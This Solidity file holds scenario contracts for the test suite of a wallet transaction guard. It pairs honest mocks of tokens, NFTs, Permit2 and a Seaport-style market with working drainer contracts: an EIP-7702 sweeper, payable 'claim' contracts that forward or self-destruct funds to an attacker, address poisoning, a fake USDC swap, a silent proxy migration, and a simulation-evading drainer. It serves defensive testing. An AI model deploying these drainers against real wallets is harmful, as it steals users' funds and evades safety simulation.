// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

// The guard's scenario contracts: honest counterparts and the attacks of the G01-G20 catalogue,
// deployed on anvil by the guard's scenario suite (crates/guard/tests). None of them is deployed by
// agora itself.

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";
import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";
import {EIP712} from "@openzeppelin/contracts/utils/cryptography/EIP712.sol";

/// An ERC-20 with EIP-2612 permit and an open mint.
contract MockToken is ERC20Permit {
    constructor(string memory name_, string memory symbol_) ERC20(name_, symbol_) ERC20Permit(name_) {}

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    function increaseAllowance(address spender, uint256 added) external returns (bool) {
        _approve(msg.sender, spender, allowance(msg.sender, spender) + added);
        return true;
    }

    /// Emits a transfer that never happened (address poisoning).
    function poison(address from, address to) external {
        emit Transfer(from, to, 0);
    }
}

/// An ERC-20 whose revoke burns millions of gas.
contract HeavyToken is ERC20 {
    bytes32 private sink;

    constructor() ERC20("Heavy", "HVY") {}

    function mint(address to, uint256 amount) external {
        _mint(to, amount);
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (amount == 0) {
            bytes32 h = sink;
            for (uint256 i = 0; i < 6000; i++) {
                h = keccak256(abi.encode(h, i));
                sink = h;
            }
        }
        return super.approve(spender, amount);
    }
}

/// An ERC-721 with an open mint.
contract MockNFT is ERC721 {
    constructor() ERC721("Mock Apes", "MAPE") {}

    function mint(address to, uint256 id) external {
        _mint(to, id);
    }
}

/// A spender that pulls what it was approved for (a router or a drainer, depending on who calls).
contract Router {
    function pull(IERC20 token, uint256 amount) external {
        require(token.transferFrom(msg.sender, address(this), amount), "pull failed");
    }
}

/// A minimal stand-in for Uniswap's Permit2 (allowance transfer), with the same EIP-712 domain
/// (name "Permit2", no version), the same `PermitBatch` types and the same events.
contract Permit2Lite {
    struct PermitDetails {
        address token;
        uint160 amount;
        uint48 expiration;
        uint48 nonce;
    }

    struct PermitBatch {
        PermitDetails[] details;
        address spender;
        uint256 sigDeadline;
    }

    struct Allowed {
        uint160 amount;
        uint48 expiration;
        uint48 nonce;
    }

    event Approval(
        address indexed owner,
        address indexed token,
        address indexed spender,
        uint160 amount,
        uint48 expiration
    );

    bytes32 private constant DOMAIN_TYPEHASH =
        keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)");
    bytes32 private constant DETAILS_TYPEHASH =
        keccak256("PermitDetails(address token,uint160 amount,uint48 expiration,uint48 nonce)");
    bytes32 private constant BATCH_TYPEHASH = keccak256(
        "PermitBatch(PermitDetails[] details,address spender,uint256 sigDeadline)PermitDetails(address token,uint160 amount,uint48 expiration,uint48 nonce)"
    );

    mapping(address owner => mapping(address token => mapping(address spender => Allowed))) public allowance;

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(abi.encode(DOMAIN_TYPEHASH, keccak256("Permit2"), block.chainid, address(this)));
    }

    function approve(address token, address spender, uint160 amount, uint48 expiration) external {
        Allowed storage a = allowance[msg.sender][token][spender];
        a.amount = amount;
        a.expiration = expiration;
        emit Approval(msg.sender, token, spender, amount, expiration);
    }

    function permit(address owner, PermitBatch calldata batch, bytes calldata signature) external {
        require(block.timestamp <= batch.sigDeadline, "signature expired");
        bytes32[] memory hashes = new bytes32[](batch.details.length);
        for (uint256 i = 0; i < batch.details.length; i++) {
            hashes[i] = keccak256(abi.encode(DETAILS_TYPEHASH, batch.details[i]));
        }
        bytes32 structHash = keccak256(
            abi.encode(BATCH_TYPEHASH, keccak256(abi.encodePacked(hashes)), batch.spender, batch.sigDeadline)
        );
        bytes32 digest = keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), structHash));
        require(ECDSA.recover(digest, signature) == owner, "bad signature");
        for (uint256 i = 0; i < batch.details.length; i++) {
            PermitDetails calldata d = batch.details[i];
            Allowed storage a = allowance[owner][d.token][batch.spender];
            require(a.nonce == d.nonce, "bad nonce");
            a.amount = d.amount;
            a.expiration = d.expiration;
            a.nonce = d.nonce + 1;
            emit Approval(owner, d.token, batch.spender, d.amount, d.expiration);
        }
    }

    function transferFrom(address from, address to, uint160 amount, address token) external {
        Allowed storage a = allowance[from][token][msg.sender];
        require(a.expiration == 0 || block.timestamp <= a.expiration, "allowance expired");
        if (a.amount != type(uint160).max) a.amount -= amount;
        require(IERC20(token).transferFrom(from, to, amount), "transfer failed");
    }
}

/// A marketplace that takes Seaport-shaped orders (the same EIP-712 `OrderComponents` types
/// under the domain "Seaport" 1.6) for ETH, ERC-20 and ERC-721 items.
contract MiniMarket is EIP712 {
    struct OfferItem {
        uint8 itemType;
        address token;
        uint256 identifierOrCriteria;
        uint256 startAmount;
        uint256 endAmount;
    }

    struct ConsiderationItem {
        uint8 itemType;
        address token;
        uint256 identifierOrCriteria;
        uint256 startAmount;
        uint256 endAmount;
        address recipient;
    }

    struct OrderParameters {
        address offerer;
        address zone;
        OfferItem[] offer;
        ConsiderationItem[] consideration;
        uint8 orderType;
        uint256 startTime;
        uint256 endTime;
        bytes32 zoneHash;
        uint256 salt;
        bytes32 conduitKey;
        uint256 totalOriginalConsiderationItems;
    }

    struct Order {
        OrderParameters parameters;
        bytes signature;
    }

    bytes32 private constant OFFER_ITEM_TYPEHASH = keccak256(
        "OfferItem(uint8 itemType,address token,uint256 identifierOrCriteria,uint256 startAmount,uint256 endAmount)"
    );
    bytes32 private constant CONSIDERATION_ITEM_TYPEHASH = keccak256(
        "ConsiderationItem(uint8 itemType,address token,uint256 identifierOrCriteria,uint256 startAmount,uint256 endAmount,address recipient)"
    );
    bytes32 private constant ORDER_TYPEHASH = keccak256(
        "OrderComponents(address offerer,address zone,OfferItem[] offer,ConsiderationItem[] consideration,uint8 orderType,uint256 startTime,uint256 endTime,bytes32 zoneHash,uint256 salt,bytes32 conduitKey,uint256 counter)ConsiderationItem(uint8 itemType,address token,uint256 identifierOrCriteria,uint256 startAmount,uint256 endAmount,address recipient)OfferItem(uint8 itemType,address token,uint256 identifierOrCriteria,uint256 startAmount,uint256 endAmount)"
    );

    mapping(bytes32 => bool) public validated;
    mapping(bytes32 => bool) public filled;

    constructor() EIP712("Seaport", "1.6") {}

    function orderHash(OrderParameters calldata p) public view returns (bytes32) {
        bytes32[] memory offers = new bytes32[](p.offer.length);
        for (uint256 i = 0; i < p.offer.length; i++) {
            offers[i] = keccak256(abi.encode(OFFER_ITEM_TYPEHASH, p.offer[i]));
        }
        bytes32[] memory considerations = new bytes32[](p.consideration.length);
        for (uint256 i = 0; i < p.consideration.length; i++) {
            considerations[i] = keccak256(abi.encode(CONSIDERATION_ITEM_TYPEHASH, p.consideration[i]));
        }
        bytes32 structHash = keccak256(
            bytes.concat(
                abi.encode(
                    ORDER_TYPEHASH,
                    p.offerer,
                    p.zone,
                    keccak256(abi.encodePacked(offers)),
                    keccak256(abi.encodePacked(considerations))
                ),
                abi.encode(p.orderType, p.startTime, p.endTime, p.zoneHash, p.salt, p.conduitKey, uint256(0))
            )
        );
        return _hashTypedDataV4(structHash);
    }

    function validate(Order[] calldata orders) external returns (bool) {
        for (uint256 i = 0; i < orders.length; i++) {
            bytes32 h = orderHash(orders[i].parameters);
            if (msg.sender != orders[i].parameters.offerer) {
                require(
                    ECDSA.recover(h, orders[i].signature) == orders[i].parameters.offerer, "bad signature"
                );
            }
            validated[h] = true;
        }
        return true;
    }

    function fulfillOrder(Order calldata order, bytes32) external payable returns (bool) {
        OrderParameters calldata p = order.parameters;
        bytes32 h = orderHash(p);
        require(!filled[h], "already filled");
        require(validated[h] || ECDSA.recover(h, order.signature) == p.offerer, "bad signature");
        require(block.timestamp >= p.startTime && block.timestamp < p.endTime, "not active");
        filled[h] = true;
        for (uint256 i = 0; i < p.offer.length; i++) {
            _move(
                p.offer[i].itemType,
                p.offer[i].token,
                p.offerer,
                msg.sender,
                p.offer[i].identifierOrCriteria,
                p.offer[i].startAmount
            );
        }
        uint256 paid;
        for (uint256 i = 0; i < p.consideration.length; i++) {
            ConsiderationItem calldata c = p.consideration[i];
            if (c.itemType == 0) {
                paid += c.startAmount;
                (bool ok,) = c.recipient.call{value: c.startAmount}("");
                require(ok, "payment failed");
            } else {
                _move(c.itemType, c.token, msg.sender, c.recipient, c.identifierOrCriteria, c.startAmount);
            }
        }
        require(paid == msg.value, "wrong value");
        return true;
    }

    function _move(uint8 itemType, address token, address from, address to, uint256 id, uint256 amount)
        private
    {
        if (itemType == 1) {
            require(IERC20(token).transferFrom(from, to, amount), "transfer failed");
        } else if (itemType == 2) {
            IERC721(token).transferFrom(from, to, id);
        } else {
            revert("unsupported item");
        }
    }
}

/// An EIP-7702 delegate that sweeps: ETH sent to the account goes to the attacker, and anyone
/// may run calls as the account.
contract Sweeper {
    struct Call {
        address target;
        uint256 value;
        bytes data;
    }

    address private immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    receive() external payable {
        (bool ok,) = attacker.call{value: address(this).balance}("");
        require(ok, "sweep failed");
    }

    function execute(Call[] calldata calls) external payable {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok,) = calls[i].target.call{value: calls[i].value}(calls[i].data);
            require(ok, "call failed");
        }
    }
}

/// An EIP-7702 delegate that only the account itself may drive.
contract SafeDelegate {
    struct Call {
        address target;
        uint256 value;
        bytes data;
    }

    receive() external payable {}

    function execute(Call[] calldata calls) external payable {
        require(msg.sender == address(this), "only the account");
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok,) = calls[i].target.call{value: calls[i].value}(calls[i].data);
            require(ok, "call failed");
        }
    }
}

/// An airdrop whose claim does nothing (the bait of a batch that hides an approval).
contract Airdrop {
    event Claimed(address indexed who);

    function claim() external {
        emit Claimed(msg.sender);
    }
}

/// Ownable with an EIP-1967 upgrade entry point.
contract OwnedProxy {
    bytes32 private constant IMPLEMENTATION_SLOT =
        0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    address public owner;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Upgraded(address indexed implementation);

    constructor(address owner_) {
        owner = owner_;
        emit OwnershipTransferred(address(0), owner_);
    }

    function transferOwnership(address newOwner) external {
        require(msg.sender == owner, "not the owner");
        emit OwnershipTransferred(owner, newOwner);
        owner = newOwner;
    }

    function upgradeTo(address implementation) external {
        require(msg.sender == owner, "not the owner");
        assembly {
            sstore(IMPLEMENTATION_SLOT, implementation)
        }
        emit Upgraded(implementation);
    }

    /// Moves to new code without an event (what a malicious "migration" page asks you to call).
    function migrate(address implementation_) external {
        require(msg.sender == owner, "not the owner");
        assembly {
            sstore(IMPLEMENTATION_SLOT, implementation_)
        }
    }

    function implementation() external view returns (address impl) {
        assembly {
            impl := sload(IMPLEMENTATION_SLOT)
        }
    }
}

/// A payable "claim" that forwards what it receives to the attacker.
contract Forwarder {
    address private immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    function claim() external payable {
        (bool ok,) = attacker.call{value: msg.value}("");
        require(ok, "forward failed");
    }
}

/// Runs code chosen by the caller in its own context.
contract Executor {
    function run(address target, bytes calldata data) external payable {
        (bool ok,) = target.delegatecall(data);
        require(ok, "run failed");
    }
}

/// A payable "claim" that self-destructs to the attacker.
contract Bomb {
    address private immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    function claim() external payable {
        selfdestruct(payable(attacker));
    }
}

/// Holds ETH and has no way to send it on.
contract Sink {
    receive() external payable {}
}

/// Takes NFTs without the ERC-721 receiver hook: safe transfers to it revert.
contract Vault {
    uint256 public deposits;

    function note() external {
        deposits += 1;
    }
}

/// Takes 100 MOCK and pays out a token that only claims to be USDC.
contract FakeSwap {
    IERC20 private immutable mock;
    MockToken private immutable fake;

    constructor(IERC20 mock_, MockToken fake_) {
        mock = mock_;
        fake = fake_;
    }

    function swap() external {
        require(mock.transferFrom(msg.sender, address(this), 100 ether), "pay first");
        fake.mint(msg.sender, 1000e6);
    }
}

/// Takes ETH for a mint and mints nothing.
contract EmptyMint {
    function mint() external payable {}
}

/// Honest in a simulator's block (zero fees or coinbase), a drainer in a real one.
contract Evasive {
    address private immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    function claim() external payable {
        bool simulated = block.basefee == 0 || tx.gasprice == 0 || block.coinbase == address(0);
        (bool ok,) = (simulated ? msg.sender : attacker).call{value: msg.value}("");
        require(ok, "send failed");
    }
}
